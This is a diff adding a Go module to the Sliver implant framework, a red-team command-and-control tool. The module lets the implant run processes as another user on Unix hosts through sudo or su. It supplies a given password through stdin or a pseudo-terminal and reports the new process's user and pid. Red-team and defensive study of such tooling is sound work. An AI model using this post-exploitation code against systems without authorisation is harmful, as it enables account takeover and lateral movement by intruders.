@@ -0,0 +1,219 @@
+// +build !windows
+
+package priv
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+	"bufio"
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bishopfox/sliver/sliver/shell/pty"
+)
+
+const (
+	// RunAsSudo - sudo -u, the password is read from stdin
+	RunAsSudo = "sudo"
+	// RunAsSu - su -c, the password is typed in a pseudo terminal
+	RunAsSu = "su"
+
+	suPromptTimeout = 10 * time.Second
+)
+
+// RunAs - Start a process as another user through sudo or su. The process
+// runs in a shell that first reports its user and pid, the command line is
+// interpreted by that shell.
+func RunAs(opts RunAsOptions) (*RunAsResult, error) {
+	method := opts.Method
+	if method == "" {
+		method = RunAsSu
+		if _, err := exec.LookPath(RunAsSudo); err == nil {
+			method = RunAsSudo
+		}
+	}
+	marker, err := runAsMarker()
+	if err != nil {
+		return nil, err
+	}
+	script := runAsScript(marker, opts)
+
+	var output []byte
+	switch method {
+	case RunAsSudo:
+		output, err = runAsSudo(opts, script)
+	case RunAsSu:
+		output, err = runAsSu(opts, script)
+	default:
+		return nil, fmt.Errorf("Unknown runas method '%s', use sudo or su", method)
+	}
+	result, found := parseRunAsOutput(marker, output)
+	if !found {
+		if err == nil {
+			err = errors.New("The process was not started")
+		}
+		return nil, fmt.Errorf("%s: %s", err, strings.TrimSpace(string(output)))
+	}
+	return result, nil
+}
+
+// runAsScript - Report "<marker>:<user>:<pid>" then exec (or background) the
+// command line, so pid is the pid of the process itself
+func runAsScript(marker string, opts RunAsOptions) string {
+	commandLine := shellQuote(opts.Process)
+	if opts.Args != "" {
+		commandLine += " " + opts.Args
+	}
+	report := fmt.Sprintf(`printf '%%s:%%s:%%s\n' %s "$(id -un)"`, marker)
+	if opts.Background {
+		return fmt.Sprintf(`nohup %s >/dev/null 2>&1 </dev/null & %s "$!"`, commandLine, report)
+	}
+	return fmt.Sprintf(`%s "$$"; exec %s 2>&1`, report, commandLine)
+}
+
+func runAsSudo(opts RunAsOptions, script string) ([]byte, error) {
+	args := []string{"-u", opts.Username, "--", "/bin/sh", "-c", script}
+	cmd := exec.Command(RunAsSudo)
+	if opts.Password == "" {
+		cmd.Args = append(append(cmd.Args, "-n"), args...)
+	} else {
+		// -k ignores cached credentials so the password is always read
+		cmd.Args = append(append(cmd.Args, "-S", "-k", "-p", ""), args...)
+		cmd.Stdin = strings.NewReader(opts.Password + "\n")
+	}
+	// {{if .Debug}}
+	log.Printf("Running %v", cmd.Args)
+	// {{end}}
+	return cmd.CombinedOutput()
+}
+
+func runAsSu(opts RunAsOptions, script string) ([]byte, error) {
+	cmd := exec.Command(RunAsSu, opts.Username, "-c", script)
+	if os.Geteuid() == 0 {
+		// Service accounts often have a nologin shell, only root may override it
+		cmd.Args = []string{RunAsSu, "-s", "/bin/sh", opts.Username, "-c", script}
+	}
+	// {{if .Debug}}
+	log.Printf("Running %v", cmd.Args)
+	// {{end}}
+	if opts.Password == "" || os.Geteuid() == 0 {
+		return cmd.CombinedOutput()
+	}
+	// su only reads passwords from a terminal
+	tty, err := pty.Start(cmd)
+	if err != nil {
+		return nil, err
+	}
+	defer tty.Close()
+	output := &lockedBuffer{}
+	done := make(chan error, 1)
+	go func() {
+		_, err := io.Copy(output, tty)
+		done <- err
+	}()
+	deadline := time.After(suPromptTimeout)
+	for !strings.Contains(strings.ToLower(output.String()), "password") {
+		select {
+		case <-done:
+			return []byte(output.String()), cmd.Wait()
+		case <-deadline:
+			cmd.Process.Kill()
+			cmd.Wait()
+			return []byte(output.String()), errors.New("Timeout waiting for the su password prompt")
+		case <-time.After(50 * time.Millisecond):
+		}
+	}
+	tty.Write([]byte(opts.Password + "\n"))
+	err = cmd.Wait()
+	// Reading the pty fails once the process and its children are gone
+	<-done
+	return []byte(strings.Replace(output.String(), "\r\n", "\n", -1)), err
+}
+
+// lockedBuffer - Written by the pty reader while we wait for the prompt
+type lockedBuffer struct {
+	mutex  sync.Mutex
+	buffer bytes.Buffer
+}
+
+func (b *lockedBuffer) Write(data []byte) (int, error) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	return b.buffer.Write(data)
+}
+
+func (b *lockedBuffer) String() string {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	return b.buffer.String()
+}
+
+// parseRunAsOutput - Split the identity report from the process output
+func parseRunAsOutput(marker string, output []byte) (*RunAsResult, bool) {
+	result := &RunAsResult{}
+	found := false
+	lines := []string{}
+	scanner := bufio.NewScanner(bytes.NewReader(output))
+	scanner.Buffer(make([]byte, 64*1024), len(output)+1)
+	for scanner.Scan() {
+		line := scanner.Text()
+		// The su password prompt may precede the report on the same line
+		if index := strings.Index(line, marker+":"); !found && 0 <= index {
+			fields := strings.SplitN(line[index+len(marker)+1:], ":", 2)
+			if len(fields) == 2 {
+				result.Username = fields[0]
+				result.Pid, _ = strconv.Atoi(fields[1])
+				found = true
+				continue
+			}
+		}
+		if found {
+			lines = append(lines, line)
+		}
+	}
+	if 0 < len(lines) {
+		result.Output = strings.Join(lines, "\n") + "\n"
+	}
+	return result, found
+}
+
+func runAsMarker() (string, error) {
+	buf := make([]byte, 8)
+	if _, err := rand.Read(buf); err != nil {
+		return "", err
+	}
+	return hex.EncodeToString(buf), nil
+}
+
+func shellQuote(value string) string {
+	return "'" + strings.Replace(value, "'", `'"'"'`, -1) + "'"
+}